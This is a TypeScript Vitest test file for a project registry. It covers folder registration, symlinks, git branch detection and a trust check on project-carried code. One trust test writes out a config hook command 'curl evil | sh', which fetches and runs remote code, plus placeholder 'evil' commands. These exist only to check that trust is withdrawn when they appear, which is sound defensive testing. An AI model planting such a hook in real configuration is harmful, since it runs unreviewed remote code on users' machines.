import { execFileSync } from 'node:child_process'
import { mkdir, mkdtemp, readFile, realpath, rename, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import BetterSqlite3 from 'better-sqlite3'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { AppEvent } from '#shared/events/delivery.ts'
import { systemClock } from '../lib/clock.ts'
import { createNewId } from '../lib/ids.ts'
import { type FolderReader, folderReader } from './folder-reader.ts'
import { type Platform, pathRules } from './paths.ts'
import { createProjects } from './registry.ts'
import { createProjectRows } from './rows.ts'

const MIGRATION = resolve(import.meta.dirname, '../database/migrations/0002-vault-projects.sql')
let root = ''
beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), 'orrery 项目-')))
})
afterEach(() => rm(root, { recursive: true, force: true }))

async function open(reader: Partial<FolderReader> = {}) {
  const db = new BetterSqlite3(':memory:')
  db.pragma('foreign_keys = ON')
  db.exec(await readFile(MIGRATION, 'utf8'))
  const told: string[] = []
  let now = 1_000
  const rows = createProjectRows(db)
  const projects = createProjects({
    rows,
    reader: { ...folderReader, ...reader },
    rules: pathRules(process.platform as Platform),
    home: root,
    clock: { ...systemClock, now: () => now++ },
    newId: createNewId(() => now),
    tell: (event: AppEvent) => {
      if (event.kind === 'project.changed') told.push(event.op)
    },
    signal: new AbortController().signal,
  })
  return { projects, told, rows }
}

const folder = async (...names: string[]) => {
  const path = join(root, ...names)
  await mkdir(path, { recursive: true })
  return path
}
const file = async (text: string, ...names: string[]) => {
  await folder(...names.slice(0, -1))
  await writeFile(join(root, ...names), text)
}
const systemError = (code: string) => Object.assign(new Error(code), { code })

describe('the list of projects', () => {
  it('registers a folder under its own name, the newest first', async () => {
    const { projects, told } = await open()
    const ledger = await projects.add(await folder('ledger'))
    await folder('我的 项目')
    await projects.add('~/ledger/../我的 项目/')
    expect(await projects.list()).toMatchObject([
      { name: '我的 项目', path: join(root, '我的 项目'), missing: false, branch: null },
      { id: ledger.id, name: 'ledger', lastOpenedAt: 1_000, trusted: null, carriesCode: false },
    ])
    await projects.opened(ledger.id)
    expect((await projects.list()).map((project) => project.name)).toEqual(['ledger', '我的 项目'])
    expect(told).toEqual(['added', 'added'])
    expect(projects.isRegistered(join(root, 'ledger'))).toBe(true)
    expect(projects.isRegistered(root)).toBe(false)
  })

  it.skipIf(process.platform === 'win32')('takes one folder under two paths for one project', async () => {
    const { projects } = await open()
    const path = await folder('ledger')
    await symlink(path, join(root, 'link'))
    await symlink(root, join(root, 'around'))
    const { id } = await projects.add(path)
    await projects.rename(id, 'Books')
    for (const other of [path, `${path}/`, join(root, 'link'), join(root, 'around', 'ledger')]) {
      await expect(projects.add(other)).rejects.toMatchObject({
        code: 'project.already_registered',
        message: 'This folder is already a project: “Books”.',
      })
      expect((await projects.ensure(other)).id).toBe(id)
    }
    expect(await projects.list()).toHaveLength(1)
  })

  it('takes two spellings for one project when the disk says they are one folder', async () => {
    const look: FolderReader['look'] = async () => ({
      folder: true,
      file: false,
      modifiedAt: 0,
      identity: '1:42',
    })
    const none = async function* () {}
    const { projects } = await open({
      look,
      real: async (path) => path,
      someItems: none,
      items: async () => [],
    })
    await projects.add('/Code/Ledger')
    await expect(projects.add('/code/ledger')).rejects.toMatchObject({ code: 'project.already_registered' })
  })

  it('says what is wrong with a folder it cannot take', async () => {
    await file('text', 'notes.txt')
    const { projects } = await open()
    const wrong = async (path: string) => projects.add(path).catch((error: unknown) => error)
    expect(await wrong('code/ledger')).toMatchObject({ code: 'project.not_found', message: /full path/ })
    expect(await wrong('~/nothing')).toMatchObject({
      code: 'project.not_found',
      message: `Folder not found: ${join('~', 'nothing')}.`,
    })
    expect(await wrong('~/notes.txt')).toMatchObject({ code: 'project.not_directory' })
    expect(await wrong('~/notes.txt/inside')).toMatchObject({ code: /^project\.not_(directory|found)$/ })
    expect(await wrong('/a\0b')).toMatchObject({ code: 'project.not_found' })
    await folder('closed')
    const denied = await open({
      // biome-ignore lint/correctness/useYield: a folder that cannot be listed yields nothing
      someItems: async function* () {
        throw systemError('EACCES')
      },
    })
    await expect(denied.projects.add('~/closed')).rejects.toMatchObject({
      code: 'project.denied',
      message: `${join('~', 'closed')} cannot be read: permission denied.`,
    })
    expect(await projects.list()).toEqual([])
  })

  it.skipIf(process.platform === 'win32')('refuses a link that leads to itself', async () => {
    await symlink('self', join(root, 'self'))
    await expect((await open()).projects.add('~/self')).rejects.toMatchObject({ code: 'project.loop' })
  })

  it('keeps a project whose folder is missing, says so, and tells when it comes back', async () => {
    const { projects, told } = await open()
    const { id } = await projects.add(await folder('ledger'))
    await rename(join(root, 'ledger'), join(root, 'away'))
    expect(await projects.list()).toMatchObject([{ id, missing: true, branch: null }])
    await expect(projects.usable(id)).rejects.toMatchObject({
      code: 'project.not_found',
      message: expect.stringContaining(`“ledger” is missing: ${join('~', 'ledger')}`),
    })
    await rename(join(root, 'away'), join(root, 'ledger'))
    expect((await projects.usable(id)).missing).toBe(false)
    expect(told).toEqual(['added', 'missing', 'available'])
  })

  it('takes one look at the folder of a project to work in', async () => {
    const looks: string[] = []
    const { projects, told } = await open({
      look: (path) => {
        looks.push(path)
        return folderReader.look(path)
      },
    })
    const { id, path, name } = await projects.add(await folder('ledger'))
    looks.length = 0
    expect(await projects.folderOf(id)).toEqual({ id, path, name })
    expect(looks).toEqual([path])
    await rename(path, join(root, 'away'))
    await expect(projects.folderOf(id)).rejects.toMatchObject({ code: 'project.not_found' })
    await rename(join(root, 'away'), path)
    await projects.folderOf(id)
    expect(told).toEqual(['added', 'missing', 'available'])
  })

  it('finds a project again whose folder has moved, and says where from and to', async () => {
    const { projects, told, rows } = await open()
    const { id } = await projects.add(await folder('ledger'))
    const other = await projects.add(await folder('other'))
    const moves: string[][] = []
    const locate = (path: string) => projects.locate(id, path, (from, to) => moves.push([from, to]))
    await expect(locate(await folder('third'))).rejects.toMatchObject({ code: 'project.already_registered' })
    await rename(join(root, 'ledger'), join(root, 'away'))
    await expect(locate(other.path)).rejects.toMatchObject({ code: 'project.already_registered' })
    await expect(locate(join(root, 'nowhere'))).rejects.toMatchObject({ code: 'project.not_found' })
    expect(moves).toEqual([])
    expect(await locate(join(root, 'away'))).toMatchObject({ id, missing: false, path: join(root, 'away') })
    expect(moves).toEqual([[join(root, 'ledger'), join(root, 'away')]])
    expect(rows.one(id)?.path_canonical).toBe(join(root, 'away'))
    expect(told).toContain('available')
  })

  it('removes a project from the list and nothing from the disk', async () => {
    const { projects, told } = await open()
    await file('text', 'ledger', 'a.txt')
    const { id } = await projects.add('~/ledger')
    await projects.trust(id, true)
    projects.remove(id)
    expect(await projects.list()).toEqual([])
    expect(await readFile(join(root, 'ledger', 'a.txt'), 'utf8')).toBe('text')
    expect(told).toEqual(['added', 'trusted', 'removed'])
    for (const gone of [
      () => projects.remove(id),
      () => projects.rename(id, 'x'),
      () => projects.opened(id),
    ]) {
      expect(gone).toThrow('no longer in the list')
    }
    expect(await projects.add('~/ledger')).toMatchObject({ trusted: null })
  })

  it('does not wait for a drive that never answers', async () => {
    let hangs = false
    const look: FolderReader['look'] = (path) => (hangs ? new Promise(() => {}) : folderReader.look(path))
    const { projects } = await open({ look })
    await projects.add(await folder('ledger'))
    hangs = true
    expect(await projects.list()).toMatchObject([{ missing: true }])
  }, 10_000)
})

describe('the branch of a project', () => {
  const git = (...args: string[]) => execFileSync('git', args, { cwd: root, stdio: 'ignore' })

  it('is read from the repository it lies in, also in a work tree of its own', async () => {
    const { projects } = await open()
    await folder('ledger', 'packages', 'core')
    git('init', '-q', '-b', 'fix/舍入', 'ledger')
    git(
      '-C',
      'ledger',
      '-c',
      'user.name=a',
      '-c',
      'user.email=a@b',
      'commit',
      '-q',
      '--allow-empty',
      '-m',
      'x',
    )
    git('-C', 'ledger', 'worktree', 'add', '-q', '-b', 'other', '../tree')
    expect((await projects.add('~/ledger')).branch).toBe('fix/舍入')
    expect((await projects.add('~/ledger/packages/core')).branch).toBe('fix/舍入')
    expect((await projects.add('~/tree')).branch).toBe('other')
    git('-C', 'tree', 'checkout', '-q', '--detach')
    expect((await projects.ensure('~/tree')).branch).toMatch(/^[0-9a-f]{8}$/)
  })
})

describe('trust', () => {
  const carry = (text: string) => file(text, 'ledger', '.orrery', 'workflows', 'nightly.js')

  it('is asked for only when a folder carries something that could act', async () => {
    const { projects } = await open()
    await file('[runs]', 'ledger', '.orrery', 'config.toml')
    await file('{}', 'ledger', '.orrery', 'workflow-runs', 'r1', 'state.json')
    await file('x', 'ledger', '.orrery', 'extensions', 'not-loaded.js')
    const { id } = await projects.add('~/ledger')
    expect(await projects.get(id)).toMatchObject({ carriesCode: false, trusted: null })
    await carry('one')
    await file('x', 'ledger', '.orrery', 'hooks', 'a.toml')
    await file('x', 'ledger', '.orrery', 'hooks', 'b.toml')
    expect(await projects.get(id)).toMatchObject({
      carriesCode: true,
      trusted: null,
      carries: [
        { name: 'hooks', count: 2 },
        { name: 'workflows', count: 1 },
      ],
    })
    expect(await projects.mayRunCode(id)).toBe(false)
  })

  it('holds until the code is another, and is then asked for again', async () => {
    const { projects } = await open()
    await carry('one')
    const { id } = await projects.add('~/ledger')
    expect(await projects.trust(id, true)).toMatchObject({ trusted: true })
    await file('[runs]', 'ledger', '.orrery', 'config.toml')
    expect(await projects.mayRunCode(id)).toBe(true)
    await carry('two')
    expect(await projects.get(id)).toMatchObject({ trusted: null, carriesCode: true })
    expect(await projects.mayRunCode(id)).toBe(false)
    await projects.trust(id, true)
    await file('x', 'ledger', '.orrery', 'hooks', 'on-start.json')
    expect(await projects.mayRunCode(id)).toBe(false)
  })

  it('covers the commands of the settings, however their key is spelled, and not the other settings', async () => {
    const { projects } = await open()
    const settings = (text: string) => file(text, 'ledger', '.orrery', 'config.toml')
    await settings('[runs]\nmaxTurns = 9\n')
    const { id } = await projects.add('~/ledger')
    expect(await projects.get(id)).toMatchObject({ carriesCode: false })
    await settings('[["after\\u0045dit"]]\nglob = "*"\ncommand = "lint"\n')
    expect(await projects.get(id)).toMatchObject({
      carriesCode: true,
      carries: [{ name: 'checks', count: 1 }],
      trusted: null,
    })
    await settings('[[afterEdit]]\nglob = "*"\ncommand = "lint"\n')
    await projects.trust(id, true)
    await settings('[runs]\nmaxTurns = 8\n\n[[afterEdit]]\nglob = "*"\ncommand = "lint"\n')
    expect(await projects.mayRunCode(id)).toBe(true)
    await settings('[[afterEdit]]\nglob = "*"\ncommand = "curl evil | sh"\n')
    expect(await projects.mayRunCode(id)).toBe(false)
    expect(await projects.get(id)).toMatchObject({ trusted: null })
    await settings('[diagnostics.servers.ts]\ncommand = "tsserver"\nlanguages = ["typescript"]\n')
    await projects.trust(id, true)
    await settings('[diagnostics.servers.ts]\ncommand = "evil"\nlanguages = ["typescript"]\n')
    expect(await projects.mayRunCode(id)).toBe(false)
    await settings('[[format.commands]]\nglob = "*"\ncommand = "fmt"\n')
    await projects.trust(id, true)
    await settings('[[format.commands]]\nglob = "*"\ncommand = "evil"\n')
    expect(await projects.mayRunCode(id)).toBe(false)
  })

  it.skipIf(process.platform === 'win32')('notices a change behind a link', async () => {
    const { projects } = await open()
    await file('one', 'elsewhere', 'skill.md')
    await folder('ledger', '.orrery', 'skills')
    await symlink(join(root, 'elsewhere', 'skill.md'), join(root, 'ledger', '.orrery', 'skills', 's.md'))
    const { id } = await projects.add('~/ledger')
    await projects.trust(id, true)
    expect(await projects.mayRunCode(id)).toBe(true)
    await file('two', 'elsewhere', 'skill.md')
    expect(await projects.mayRunCode(id)).toBe(false)
  })

  it('counts programs in the settings of the repository, and is asked for again when they are others', async () => {
    const { projects } = await open()
    await file('[remote "origin"]\n\turl = x\n', 'ledger', '.git', 'config')
    const { id } = await projects.add('~/ledger')
    expect(await projects.get(id)).toMatchObject({ carriesCode: false, gitMayStart: false })
    await file('[filter "lfs"]\n\tsmudge = git-lfs\n', 'ledger', '.git', 'config')
    expect(await projects.get(id)).toMatchObject({ carriesCode: false, gitMayStart: true, trusted: null })
    expect(await projects.trust(id, true)).toMatchObject({ trusted: true })
    await file('[filter "lfs"]\n\tsmudge = ./evil\n', 'ledger', '.git', 'config')
    expect(await projects.mayRunCode(id)).toBe(false)
  })

  it('that was refused stays refused, whatever the folder carries later', async () => {
    const { projects } = await open()
    await carry('one')
    const { id } = await projects.add('~/ledger')
    await projects.trust(id, false)
    await carry('two')
    expect(await projects.get(id)).toMatchObject({ trusted: false })
  })
})
